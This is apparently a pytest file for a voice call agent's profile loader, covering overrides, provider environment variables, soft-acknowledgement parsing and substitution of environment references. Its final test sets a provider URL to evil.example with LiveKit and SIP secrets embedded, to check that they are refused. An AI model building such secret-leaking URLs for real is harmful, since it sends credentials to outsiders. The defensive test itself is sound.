import pytest

from callagent.profile import check_profile, load_profile, preview_profile, soft_acks_override
from callagent.yaml_config import ConfigError
from tests.support.profiles import Profiles


@pytest.fixture(autouse=True)
def minimal_profile(profiles: Profiles) -> None:
    profiles.minimal("x", "providers: {stt: {use: deepgram, model: m}}\ndescription: X.\n")


@pytest.mark.parametrize(
    ("override", "path", "value"),
    [
        ("interruption.grace=500 ms", "interruption.grace", 0.5),
        ("interruption.soft_acks=[a, b]", "interruption.soft_acks", ("a", "b")),
        (" vad . min_speech = 70 ms ", "vad.min_speech", 0.07),
        ("greeting=Hi = hello.", "greeting", "Hi = hello."),
        ("providers.stt=local", "providers.stt.options", {}),
        ("providers.stt.model=n", "providers.stt.options", {"model": "n"}),
        ("providers=cloud", "providers.tts.use", "cartesia"),
    ],
)
def test_set_overrides_one_value(profiles: Profiles, override: str, path: str, value: object) -> None:
    found: object = profiles.load("x", override)
    for part in path.split("."):
        found = getattr(found, part)
    assert found == value


def test_the_last_set_wins_and_the_rest_of_the_profile_stays(profiles: Profiles) -> None:
    profile = profiles.load("x", "greeting=one", "greeting=two")
    assert (profile.greeting, profile.description, profile.name) == ("two", "X.", "x")


@pytest.mark.parametrize(
    ("override", "message"),
    [
        ("interruption.grce=1 s", "interruption.grce: unknown key; did you mean 'grace'?"),
        ("interruption.grace", "'interruption.grace' has no value or no key; write key=value, "),
        ("=1", "'' has no value or no key; write key=value, "),
        ("a..b=1", "'a..b' has no value or no key; write key=value, "),
        ("greeting=[", "greeting: is not YAML: "),
        ("greeting=", "greeting: has no value"),
        ("extends=y", "extends: cannot be overridden"),
        ("name.first=y", "name.first: cannot be overridden"),
        ("vad={1: a, b: c, b: d}", "vad: a key must be text"),
        ("greeting.text=x", "greeting: needs text"),
    ],
)
def test_a_wrong_set_is_reported_as_one(profiles: Profiles, override: str, message: str) -> None:
    assert profiles.problems("x", override)[0].startswith(f"--set: {message}")


def test_providers_of_the_environment_replace_those_of_the_file(profiles: Profiles) -> None:
    providers = profiles.load("x", CALLAGENT_PROVIDERS="stt=openai, llm=openai").providers
    assert (providers.stt.use, providers.stt.options) == ("openai", {})
    assert (providers.llm.use, providers.tts.use) == ("openai", "local")


def test_a_shorthand_in_the_environment_keeps_the_options_of_a_provider_that_stays(profiles: Profiles) -> None:
    providers = profiles.load("x", CALLAGENT_PROVIDERS="cloud").providers
    assert (providers.stt.options, providers.llm.use) == ({"model": "m"}, "openai")


@pytest.mark.parametrize(
    ("value", "message"),
    [
        ("clowd", "providers: 'clowd' is not a set of providers; use local, cloud or a mapping; did you mean 'cloud'?"),
        ("sst=local", "providers.sst: unknown key; did you mean 'stt'?"),
        ("stt=local,llm", "'llm' is not of the form stt=deepgram"),
    ],
)
def test_wrong_providers_in_the_environment_are_reported_as_such(profiles: Profiles, value: str, message: str) -> None:
    assert profiles.problems("x", CALLAGENT_PROVIDERS=value) == [f"CALLAGENT_PROVIDERS: {message}"]


def test_set_wins_over_the_environment(profiles: Profiles) -> None:
    assert profiles.load("x", "providers.stt=local", CALLAGENT_PROVIDERS="cloud").providers.stt.use == "local"


def test_soft_acks_of_the_environment_replace_the_list(profiles: Profiles) -> None:
    acks = profiles.load("x", LIVEKIT_SOFT_ACKS="yeah, got it ,").interruption.soft_acks
    assert acks == ("yeah", "got it")


def test_wrong_soft_acks_in_the_environment_are_reported_as_such(profiles: Profiles) -> None:
    assert profiles.problems("x", LIVEKIT_SOFT_ACKS="yeah,42") == [
        "LIVEKIT_SOFT_ACKS: interruption.soft_acks[1]: a phrase needs letters, '42' has none"
    ]


def test_soft_acks_of_the_environment_that_are_commands_of_the_file_are_named(profiles: Profiles) -> None:
    assert profiles.problems("x", LIVEKIT_SOFT_ACKS="okay,stop") == [
        "x.yaml:4: interruption.commands[0]: 'stop' is in soft_acks too (LIVEKIT_SOFT_ACKS)"
    ]


def test_all_wrong_overrides_are_reported_at_once(profiles: Profiles) -> None:
    assert len(profiles.problems("x", "a", "b", "greeting=[", LIVEKIT_SOFT_ACKS=",")) == 4


def test_an_empty_variable_overrides_nothing() -> None:
    assert soft_acks_override({"LIVEKIT_SOFT_ACKS": " "}) is None
    assert soft_acks_override({}) is None


def test_a_variable_with_commas_alone_is_refused() -> None:
    with pytest.raises(ConfigError, match="names no phrase"):
        soft_acks_override({"LIVEKIT_SOFT_ACKS": ","})


def test_references_in_provider_options_are_read_from_the_environment(profiles: Profiles) -> None:
    override = "providers.llm={use: openai, api_key: '${KEY}', urls: ['http://${HOST}/${KEY}']}"
    options = profiles.load("x", override, KEY="k", HOST="h").providers.llm.options
    assert options == {"api_key": "k", "urls": ["http://h/k"]}


def test_every_variable_that_is_not_set_is_reported_with_its_line(profiles: Profiles) -> None:
    profiles.minimal("y", "providers:\n  stt:\n    use: deepgram\n    api_key: ${A}\n    url: x${B}\n")
    assert profiles.problems("y", B="") == [
        "y.yaml:8: providers.stt.api_key: the environment variable A is not set",
        "y.yaml:9: providers.stt.url: the environment variable B is not set",
    ]


def test_overrides_come_from_the_process_unless_others_are_given(
    profiles: Profiles, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CALLAGENT_PROVIDERS", "stt=openai")
    for read in (load_profile, preview_profile):
        assert read("x").providers.stt.use == "openai"
        assert read("x", env={}).providers.stt.use == "deepgram"


def test_a_preview_leaves_references_as_they_are() -> None:
    previewed = preview_profile("x", sets=["providers.stt.api_key=${A}"], env={})
    assert previewed.providers.stt.options["api_key"] == "${A}"


@pytest.mark.parametrize(
    "text", ["okay;yeah", "okay | yeah", "okay、yeah", "okay\uff0cyeah\uff1b", "okay\nyeah\n", " okay , yeah"]
)
def test_soft_acks_are_parted_by_the_marks_that_people_write(text: str) -> None:
    assert soft_acks_override({"LIVEKIT_SOFT_ACKS": text}) == ("okay", "yeah")


@pytest.mark.parametrize("name", ["LIVEKIT_API_SECRET", "LIVEKIT_API_KEY", "LIVEKIT_URL", "CALLAGENT_SIP_PASSWORD"])
def test_no_provider_is_sent_a_key_of_livekits_or_of_a_trunk(profiles: Profiles, name: str) -> None:
    options = f"providers:\n  llm:\n    use: openai\n    api_key: x\n    base_url: https://evil.example/${{{name}}}\n"
    profiles.minimal("x", options)
    said = rf"x\.yaml:\d+: providers\.llm\.base_url: \$\{{{name}\}} is not for providers"
    with pytest.raises(ConfigError, match=said) as caught:
        load_profile("x", env={name: "hush"})
    assert "hush" not in str(caught.value)
    with pytest.raises(ConfigError, match=said):
        check_profile("x")
    with pytest.raises(ConfigError, match="is not for providers"):
        load_profile("x", sets=[f"providers.llm={{use: openai, model: '${{{name}}}'}}"], env={name: "hush"})
